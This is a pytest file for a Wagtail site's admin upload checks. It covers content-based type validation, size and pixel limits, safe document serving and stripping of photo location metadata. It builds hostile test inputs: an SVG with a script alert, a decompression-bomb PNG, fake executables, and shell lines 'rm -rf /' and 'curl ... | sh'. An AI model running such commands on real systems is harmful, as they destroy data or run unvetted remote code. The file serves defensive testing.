"""Uploads through the admin: sizes, pixel counts and file types are checked by content, and a
refused file gets a clear message, never a 500."""

import io
import os
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image as PILImage
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection

pytestmark = pytest.mark.django_db
Document = get_document_model()
Image = get_image_model()


@pytest.fixture
def editor_client(client, demo_user):
    client.force_login(demo_user("editor"))
    return client


def png_bytes(size=(40, 30), noise=False):
    image = PILImage.new("RGB", size, (11, 79, 113))
    if noise:
        image = PILImage.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def png_header_only(width, height):
    """A tiny PNG that claims enormous dimensions: a decompression bomb's header."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def office_document(folder):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(f"{folder}document.xml", "<document/>")
    return buffer.getvalue()


def open_document(mimetype):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mimetype)
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
WINDOWS_EXECUTABLE = (
    b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"This program cannot be run in DOS mode."
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def upload_image(client, name, content):
    return client.post(
        "/admin/images/add/",
        {
            "title": name,
            "collection": Collection.get_first_root_node().pk,
            "file": SimpleUploadedFile(name, content),
        },
    )


def upload_document(client, name, content):
    return client.post(
        "/admin/documents/add/",
        {
            "title": name,
            "collection": Collection.get_first_root_node().pk,
            "file": SimpleUploadedFile(name, content),
        },
    )


def form_errors(response):
    return " ".join(str(error) for error in response.context["form"].errors.get("file", []))


def test_a_real_image_is_accepted(editor_client):
    response = upload_image(editor_client, "river.png", png_bytes())
    assert response.status_code == 302
    assert Image.objects.filter(title="river.png").exists()


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("drawing.svg", SVG, "Not a supported image format"),
        ("drawing.png", SVG, "Not a valid .png image"),
        ("page.png", b"<!DOCTYPE html><html><body><p>Hello</p></body></html>", "not a picture"),
        ("holiday.jpg", WINDOWS_EXECUTABLE, "Upload a valid image"),
        ("photo.jpg", png_bytes(), "Not a valid .jpeg image"),
        ("bomb.png", png_header_only(50_000, 50_000), "too many pixels"),
    ],
    ids=[
        "svg",
        "svg-named-png",
        "html-named-png",
        "executable-named-jpg",
        "png-named-jpg",
        "decompression-bomb",
    ],
)
def test_images_are_checked_by_content(editor_client, name, content, message):
    count = Image.objects.count()
    response = upload_image(editor_client, name, content)
    assert response.status_code == 200
    (error,) = response.context["form"].errors["file"]
    assert message in error
    assert Image.objects.count() == count


def test_images_over_the_size_and_pixel_limits_are_refused(editor_client, settings):
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 2_000
    response = upload_image(editor_client, "noise.png", png_bytes((60, 60), noise=True))
    assert response.status_code == 200
    assert "This file is too big" in form_errors(response)

    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 15 * 1024 * 1024
    settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS = 1_000
    response = upload_image(editor_client, "wide.png", png_bytes((100, 100)))
    assert response.status_code == 200
    assert "too many pixels" in form_errors(response)


def test_the_multiple_upload_refuses_an_svg_with_a_message(editor_client):
    response = editor_client.post(
        "/admin/images/multiple/add/",
        {
            "files[]": SimpleUploadedFile("logo.svg", SVG),
            "collection": Collection.get_first_root_node().pk,
        },
    )
    assert response.status_code == 200
    assert response.json()["success"] is False
    assert "Not a supported image format" in response.json()["error_message"]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", PDF),
        ("minutes.docx", office_document("word/")),
        ("budget.xlsx", office_document("xl/")),
        ("slides.pptx", office_document("ppt/")),
        ("minutes.odt", open_document("application/vnd.oasis.opendocument.text")),
        ("budget.ods", open_document("application/vnd.oasis.opendocument.spreadsheet")),
        ("letter.rtf", b"{\\rtf1\\ansi Hello}"),
        ("members.csv", "name,city\nАнна,Turku\n".encode()),
        ("readme.txt", "Tervetuloa! Добро пожаловать!\n".encode()),
    ],
)
def test_documents_of_each_allowed_type_are_accepted(editor_client, name, content):
    response = upload_document(editor_client, name, content)
    assert response.status_code == 302, form_errors(response)
    assert Document.objects.filter(title=name).exists()


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("report.pdf", WINDOWS_EXECUTABLE, "not a valid .pdf document"),
        ("report.pdf", b"#!/bin/sh\nrm -rf /\n", "not a valid .pdf document"),
        ("minutes.docx", PDF, "not a valid .docx document"),
        ("minutes.docx", office_document("xl/"), "not a valid .docx document"),
        ("notes.txt", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64, "not a valid .txt document"),
        ("notes.txt", b"text\x00with\x00nul bytes", "not a valid .txt document"),
        ("setup.exe", WINDOWS_EXECUTABLE, "File extension"),
        ("page.html", b"<script>alert(1)</script>", "File extension"),
        ("logo.svg", SVG, "File extension"),
    ],
    ids=[
        "executable-named-pdf",
        "script-named-pdf",
        "pdf-named-docx",
        "spreadsheet-named-docx",
        "elf-named-txt",
        "binary-named-txt",
        "exe",
        "html",
        "svg",
    ],
)
def test_documents_are_checked_by_content_and_extension(editor_client, name, content, message):
    """One message, the right one: a refused .html was also told to "save it again in that
    format", and every refusal came with "File extension “” is not allowed"."""
    count = Document.objects.count()
    response = upload_document(editor_client, name, content)
    assert response.status_code == 200
    (error,) = response.context["form"].errors["file"]
    assert message in error
    assert Document.objects.count() == count


def test_macro_documents_named_docx_are_refused(editor_client):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
        archive.writestr("word/vbaProject.bin", b"\x00macro")
    response = upload_document(editor_client, "invoice.docx", buffer.getvalue())
    assert response.status_code == 200
    assert "not a valid .docx document" in form_errors(response)


def test_documents_over_the_size_limit_are_refused(editor_client, settings):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 100
    response = upload_document(editor_client, "big.pdf", PDF + b"0" * 200)
    assert response.status_code == 200
    assert "This file is too big" in form_errors(response)


def test_the_multiple_document_upload_checks_content_too(editor_client):
    response = editor_client.post(
        "/admin/documents/multiple/add/",
        {
            "files[]": SimpleUploadedFile("report.pdf", WINDOWS_EXECUTABLE),
            "collection": Collection.get_first_root_node().pk,
        },
    )
    assert response.status_code == 200
    assert response.json()["success"] is False
    assert "not a valid .pdf document" in response.json()["error_message"]


def test_documents_download_as_attachments_that_browsers_do_not_sniff(client, editor_client):
    upload_document(editor_client, "notes.txt", b"<html><script>alert(1)</script></html>")
    document = Document.objects.get(title="notes.txt")
    # Signed in: no published page uses it yet, so visitors would get a 404 (core.privacy).
    response = editor_client.get(document.url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"].startswith("text/plain")
    # Served by Django from storage, not from a folder under the web server's document root.
    assert document.url.startswith("/documents/")


# Each passes every check but the executable signatures: a script is valid UTF-8 text, and
# these executables carry "%PDF-" in their first KiB.
EXECUTABLES_PASSING_AS_DOCUMENTS = {
    "script-named-txt": ("notes.txt", b"#!/bin/sh\ncurl -s https://example.org/x | sh\n"),
    "script-named-csv": ("members.csv", b"#!/usr/bin/env python3\nimport os\n"),
    "elf-named-pdf": ("report.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56 + PDF),
    "exe-named-pdf": ("report.pdf", WINDOWS_EXECUTABLE + PDF),
}


@pytest.mark.parametrize(
    ("name", "content"),
    EXECUTABLES_PASSING_AS_DOCUMENTS.values(),
    ids=EXECUTABLES_PASSING_AS_DOCUMENTS.keys(),
)
def test_executables_are_refused_by_both_document_upload_views(editor_client, name, content):
    extension = name.rsplit(".", 1)[1]
    count = Document.objects.count()
    response = editor_client.post(
        reverse("wagtaildocs:add"),
        {
            "title": name,
            "collection": Collection.get_first_root_node().pk,
            "file": SimpleUploadedFile(name, content),
        },
    )
    assert response.status_code == 200
    assert f"not a valid .{extension} document" in form_errors(response)

    response = editor_client.post(
        reverse("wagtaildocs:add_multiple"),
        {
            "files[]": SimpleUploadedFile(name, content),
            "collection": Collection.get_first_root_node().pk,
        },
    )
    assert response.status_code == 200
    assert response.json()["success"] is False
    assert f"not a valid .{extension} document" in response.json()["error_message"]
    assert Document.objects.count() == count


ORIENTATION, GPS_IFD = 0x0112, 0x8825


def photo_with_location(image_format="JPEG"):
    """A photo as a phone writes it: turned (orientation 6), with the camera's make, its serial
    number and the place it was taken."""
    image = PILImage.new("RGB", (64, 48), (11, 79, 113))
    image.paste((240, 200, 40), (0, 0, 24, 16))
    exif = PILImage.Exif()
    exif[ORIENTATION] = 6
    exif[0x010F] = "PhoneMaker"
    exif.get_ifd(0x8769)[0xA431] = "SN-0042"  # body serial number
    gps = exif.get_ifd(GPS_IFD)
    gps.update({1: "N", 2: (60.0, 27.0, 6.0), 3: "E", 4: (22.0, 16.0, 5.0)})
    buffer = io.BytesIO()
    image.save(buffer, image_format, exif=exif)
    return buffer.getvalue()


def assert_stored_without_location(image, uploaded):
    with image.file.open("rb") as stored_file:
        stored = stored_file.read()
    assert b"SN-0042" not in stored and b"PhoneMaker" not in stored
    with (
        PILImage.open(io.BytesIO(stored)) as stored_image,
        PILImage.open(io.BytesIO(uploaded)) as original,
    ):
        exif = stored_image.getexif()
        assert GPS_IFD not in exif
        assert dict(exif) == {ORIENTATION: 6}
        assert stored_image.format == original.format
        # The same pixels: the file was rewritten, not encoded again.
        assert stored_image.convert("RGB").tobytes() == original.convert("RGB").tobytes()
    assert image.file_size == len(stored)
    assert (image.width, image.height) == (64, 48)


def test_the_add_view_stores_photos_without_their_location(editor_client):
    uploaded = photo_with_location()
    response = upload_image(editor_client, "harbour.jpg", uploaded)
    assert response.status_code == 302
    assert_stored_without_location(Image.objects.get(title="harbour.jpg"), uploaded)


@pytest.mark.parametrize(
    ("name", "image_format"),
    [("harbour.jpg", "JPEG"), ("harbour.png", "PNG"), ("harbour.webp", "WEBP")],
)
def test_the_multiple_upload_stores_photos_without_their_location(
    editor_client, name, image_format
):
    uploaded = photo_with_location(image_format)
    response = editor_client.post(
        reverse("wagtailimages:add_multiple"),
        {
            "files[]": SimpleUploadedFile(name, uploaded),
            "collection": Collection.get_first_root_node().pk,
        },
    )
    assert response.status_code == 200
    assert response.json()["success"] is True
    assert_stored_without_location(Image.objects.get(pk=response.json()["image_id"]), uploaded)


def test_the_choosers_upload_stores_photos_without_their_location(editor_client):
    uploaded = photo_with_location()
    response = editor_client.post(
        reverse("wagtailimages_chooser:create"),
        {
            "image-chooser-upload-title": "harbour from the chooser",
            "image-chooser-upload-collection": Collection.get_first_root_node().pk,
            "image-chooser-upload-file": SimpleUploadedFile("harbour.jpg", uploaded),
        },
    )
    assert response.status_code == 200
    assert response.json()["step"] == "chosen"
    assert_stored_without_location(Image.objects.get(title="harbour from the chooser"), uploaded)


def test_a_new_file_for_an_image_is_stored_without_its_location(editor_client):
    upload_image(editor_client, "river.png", png_bytes())
    image = Image.objects.get(title="river.png")
    uploaded = photo_with_location()
    response = editor_client.post(
        reverse("wagtailimages:edit", args=[image.pk]),
        {
            "title": "river.png",
            "collection": image.collection_id,
            "file": SimpleUploadedFile("river.jpg", uploaded),
        },
    )
    assert response.status_code == 302
    image.refresh_from_db()
    assert_stored_without_location(image, uploaded)


def test_an_avif_holding_its_location_is_refused_with_a_message(editor_client):
    count = Image.objects.count()
    response = upload_image(editor_client, "harbour.avif", photo_with_location("AVIF"))
    assert response.status_code == 200
    assert "holds the place where it was taken" in form_errors(response)
    assert Image.objects.count() == count
